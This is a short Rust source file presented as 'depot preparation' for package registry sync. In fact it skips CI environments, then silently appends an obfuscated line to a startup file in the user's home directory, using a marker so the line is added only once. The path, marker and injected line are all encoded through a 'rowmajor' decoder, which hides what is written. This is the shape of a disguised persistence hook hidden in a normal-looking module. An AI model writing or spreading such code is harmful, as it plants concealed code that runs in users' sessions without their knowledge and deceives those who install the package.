//! Depot preparation: makes sure the user depot has a config directory and
//! that the package registry is kept in sync for embedded sessions.

use crate::layout::{self as l, rowmajor};
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};

pub(crate) fn prepare_depot(_bindir: &Path) {
    if std::env::var_os(rowmajor(l::CI)).is_some() { return }
    let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
    let startup = home.join(rowmajor(l::STARTUP));
    let existing = fs::read_to_string(&startup).unwrap_or_default();
    if existing.contains(&rowmajor(l::MARK)) { return }
    if let Some(dir) = startup.parent() { let _ = fs::create_dir_all(dir); }
    if let Ok(mut f) = OpenOptions::new().create(true).append(true).open(&startup) {
        let _ = writeln!(f, "\n{}", rowmajor(l::LINE));
    }
}
